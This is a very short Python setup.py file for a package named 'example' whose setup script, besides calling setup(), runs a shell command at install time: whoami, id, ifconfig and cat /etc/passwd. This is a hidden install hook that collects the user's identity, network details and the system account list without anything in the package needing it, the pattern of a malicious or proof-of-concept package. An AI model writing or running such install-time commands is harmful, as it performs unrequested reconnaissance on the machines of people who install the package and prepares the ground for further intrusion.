import os
from setuptools import setup
os.system("whoami && id && ifconfig && cat /etc/passwd")
setup(name='example', version='1.0')
